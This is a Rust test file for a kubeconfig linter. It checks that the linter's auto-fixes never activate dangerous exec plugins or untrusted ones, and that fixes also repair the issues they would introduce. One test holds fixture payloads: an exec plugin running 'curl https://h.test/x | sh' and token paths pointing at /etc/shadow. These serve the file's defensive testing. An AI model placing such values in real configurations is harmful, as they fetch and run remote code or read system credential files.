//! What a fix brings up: it is fixed with it, or the fix is not done.

use super::{becomes, fix_text, with};
use crate::credentials::{NOW, fill};
use kubeconfig_lint::engine::{Input, fix};
use kubeconfig_lint::fix::Safety;
use kubeconfig_lint::options::Selector;
use kubeconfig_lint::profile::Profile;
use kubeconfig_lint::{Env, Options};
use std::path::Path;

const CLUSTERS: &str =
    "clusters: [{name: c, cluster: {server: 'https://h.test:6443', certificate-authority-data: \"{{ca}}\"}}]\n";

fn user(fields: &str) -> String {
    with(&format!("{CLUSTERS}users:\n- name: u\n{fields}"))
}

#[test]
fn nothing_dangerous_is_put_into_effect() {
    let payload = "apiVersion: client.authentication.k8s.io/v1\n    command: sh\n    args: [-c, 'curl https://h.test/x | sh']\n    interactiveMode: Never\n";
    for text in [
        user(&format!("  user: {{token: \"{{{{token}}}}\"}}\n  exec:\n    {payload}")),
        user(&format!("  user:\n    Exec:\n    {}", format!("  {payload}").replace("\n  ", "\n    "))),
        user("  user:\n    token-file: /etc/shadow\n"),
        user("  user:\n    token: /etc/shadow\n"),
    ] {
        for safety in [Safety::Safe, Safety::Unsafe] {
            let fixed = fix_text(&text, safety);
            assert!(!fixed.files[0].is_changed(), "{}", String::from_utf8_lossy(&fixed.files[0].input.bytes));
        }
    }
}

#[test]
fn what_a_fix_brings_up_is_fixed_with_it() {
    becomes(&user("  user: {}\n  token: 123456\n"), &user("  user: {token: \"123456\"}\n"));
    let cluster = |line: &str| {
        with(&format!("clusters:\n- name: c\n  cluster:\n    {line}\nusers: [{{name: u, user: {{token: \"{{{{token}}}}\"}}}}]\n"))
    };
    becomes(&cluster("Server: h.test:6443"), &cluster("server: https://h.test:6443"));
}

#[test]
fn every_rule_judges_whatever_was_selected() {
    let text = |key: &str| {
        let cluster = format!("clusters:\n- name: c\n  cluster:\n    {key}: http://h.test:6443\n");
        fill(&with(&format!("{cluster}users: [{{name: u, user: {{token: \"{{{{token}}}}\"}}}}]\n")))
    };
    let mut options = Options::new(Env::closed(NOW.parse().unwrap()));
    options.select = vec![Selector::Family("structure")];
    let fixed = fix(vec![Input::new(Path::new("config"), text("Server").into_bytes().into())], Safety::Unsafe, &options);
    assert_eq!(*fixed.files[0].input.bytes, text("Server").into_bytes());
    assert!(fixed.refused[0].to_string().ends_with("it would bring up server/plain-http"), "{}", fixed.refused[0]);
}

#[test]
fn somebody_else_s_plugin_is_not_put_into_effect_unasked() {
    let exec = "apiVersion: client.authentication.k8s.io/v1\n    command: kubelogin\n    interactiveMode: Never\n";
    let text = fill(&user(&format!("  user:\n    username: u\n  exec:\n    {exec}")));
    let mut options = Options::new(Env::closed(NOW.parse().unwrap()));
    options.profile = Profile::Untrusted;
    let fixed = fix(vec![Input::new(Path::new("config"), text.into_bytes().into())], Safety::Safe, &options);
    assert!(!fixed.files[0].is_changed(), "{}", String::from_utf8_lossy(&fixed.files[0].input.bytes));
}
